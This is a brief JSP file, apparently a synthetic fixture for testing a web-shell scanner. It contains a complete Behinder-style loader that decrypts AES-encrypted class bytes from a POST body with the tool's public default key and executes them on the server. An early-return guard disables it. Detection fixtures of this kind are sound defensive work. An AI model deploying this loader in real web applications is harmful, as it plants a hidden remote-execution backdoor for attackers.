<%-- synthetic test sample for breachscan: Behinder-style loader (AES-decrypted class bytes
     from the request body, defined by a custom ClassLoader). The key is Behinder's public
     default. Disabled by the SAMPLE_ONLY guard; no payload exists. --%>
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%
final boolean SAMPLE_ONLY = true;
if (SAMPLE_ONLY) return;
if (request.getMethod().equals("POST")) {
    String k = "e45e329feb5d925b";
    session.putValue("u", k);
    Cipher c = Cipher.getInstance("AES");
    c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
    new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);
}
%>
